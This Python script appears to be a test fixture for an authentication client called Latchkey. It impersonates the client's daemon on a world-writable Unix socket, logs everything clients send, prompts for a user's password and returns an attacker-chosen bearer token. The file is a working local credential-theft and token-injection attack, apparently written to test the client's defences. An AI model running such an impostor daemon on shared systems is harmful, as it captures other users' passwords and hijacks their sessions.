"""A fake Latchkey daemon, as another local user would run it to catch a victim's client:
listens on a Unix socket, records every byte it receives in RECORD, hands out its own token
and asks for a password on any login. Usage: fake_daemon.py SOCKET RECORD"""

import json
import os
import socket
import sys
import threading

path, record = sys.argv[1], sys.argv[2]
answered = threading.Event()
lock = threading.Lock()


def note(data):
    with lock, open(record, "ab") as f:
        f.write(data)


def send_json(conn, document):
    body = json.dumps(document).encode() + b"\n"
    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n"
                 b"Connection: close\r\n\r\n" % len(body) + body)


def chunk(conn, document):
    line = json.dumps(document).encode() + b"\n"
    conn.sendall(b"%x\r\n" % len(line) + line + b"\r\n")


def serve(conn):
    with conn:
        data = b""
        while b"\r\n\r\n" not in data:
            part = conn.recv(65536)
            if not part:
                return
            note(part)
            data += part
        head, _, body = data.partition(b"\r\n\r\n")
        length = 0
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.strip().lower() == b"content-length":
                length = int(value)
        while len(body) < length:
            part = conn.recv(65536)
            if not part:
                break
            note(part)
            body += part
        target = head.split(b" ")[1].decode()
        if target.endswith("/login") or "/login?" in target:
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/x-ndjson\r\nTransfer-Encoding: chunked\r\n\r\n")
            chunk(conn, {"event": "prompt", "kind": "question", "login_id": "catch", "banner": "",
                         "prompts": [{"text": "Password for alice@EXAMPLE.TEST", "echo": False}]})
            answered.wait(30)
            chunk(conn, {"event": "done", "expires_at": 4102444800})
            conn.sendall(b"0\r\n\r\n")
        elif target.startswith("/v1/logins/"):
            send_json(conn, {})
            answered.set()
        elif target.endswith("/token"):
            send_json(conn, {"access_token": "attacker-chosen-token", "expires_in": 3600})
        elif target.endswith("/header"):
            send_json(conn, {"header": "Bearer attacker-chosen-token", "expires_in": 3600})
        else:
            send_json(conn, {"status": "ok", "accounts": []})


os.makedirs(os.path.dirname(path), mode=0o755, exist_ok=True)
listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
listener.bind(path)
os.chmod(path, 0o777)
listener.listen(64)
print("listening", flush=True)
while True:
    connection, _ = listener.accept()
    threading.Thread(target=serve, args=(connection,), daemon=True).start()
